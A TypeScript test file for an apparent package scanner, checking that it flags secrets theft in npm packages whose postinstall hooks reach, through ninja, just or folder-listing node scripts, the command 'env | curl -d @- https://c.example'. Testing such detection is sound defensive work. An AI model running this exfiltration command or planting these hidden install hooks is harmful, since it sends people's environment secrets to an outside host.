import t from 'tap'
import { inspect } from '../../src/inspection/inspect.ts'
import { sha256 } from '../../src/model/digest.ts'
import type { ContentFacts } from '../../src/model/fact.ts'
import { readingOf } from './python-reading.ts'

const PIPE = 'env | curl -d @- https://c.example'

function npm(manifest: object, files: Readonly<Record<string, string>>): Promise<ContentFacts> {
  const reading = readingOf('npm-tarball', { 'package.json': JSON.stringify(manifest), ...files })
  return inspect(reading, { digest: sha256('x'), readAs: 'npm-tarball' })
}

const sends = ({ findings }: ContentFacts): boolean =>
  findings.some(({ check, severity }) => check === 'secrets-exfiltration' && severity === 'critical')

t.test('a command of a build stands behind any number of blanks', async (t) => {
  for (const blanks of [1, 20, 21, 5000]) {
    const build = { 'build.ninja': `rule r\n${' '.repeat(blanks)}command${' '.repeat(blanks)}= ${PIPE}\nbuild x: r\n` }
    t.ok(sends(await npm({ scripts: { postinstall: 'ninja' } }, build)), `ninja: ${blanks}`)
    const recipe = { justfile: `x:\n${' '.repeat(blanks)}@${PIPE}\n` }
    t.ok(sends(await npm({ scripts: { postinstall: 'just x' } }, recipe)), `just: ${blanks}`)
  }
})

t.test('each file of a folder that a program lists and starts is followed', async (t) => {
  const fs = `const { readdirSync } = require('fs'), { execSync, spawnSync } = require('child_process'), p = require('path');`
  const hooks: readonly (readonly [situation: string, script: string, path: string])[] = [
    ['in a line', `for (const f of readdirSync(__dirname + '/s')) execSync('sh ' + __dirname + '/s/' + f)`, 's/a.txt'],
    ['in a list', `readdirSync('s').forEach((f) => spawnSync('sh', ['s/' + f]))`, 's/a'],
    [
      'joined',
      `for (const f of readdirSync(p.join(__dirname, 's'))) spawnSync('bash', [p.join(__dirname, 's', f)])`,
      's/a.txt',
    ],
    ['in the folder itself', `for (const f of readdirSync('.')) execSync('sh ./' + f)`, 'a.txt'],
    ['by its end', `for (const f of readdirSync('s')) execSync('sh s/' + f + '.txt')`, 's/a.txt'],
  ]
  for (const [situation, script, path] of hooks) {
    const files = { 'x.js': fs + script, [path]: PIPE }
    t.ok(sends(await npm({ scripts: { postinstall: 'node x.js' } }, files)), situation)
  }
  const elsewhere = { 'x.js': `${fs}${hooks[0]?.[1]}`, 'other/a.txt': PIPE }
  t.notOk(sends(await npm({ scripts: { postinstall: 'node x.js' } }, elsewhere)), 'and no file elsewhere')
})
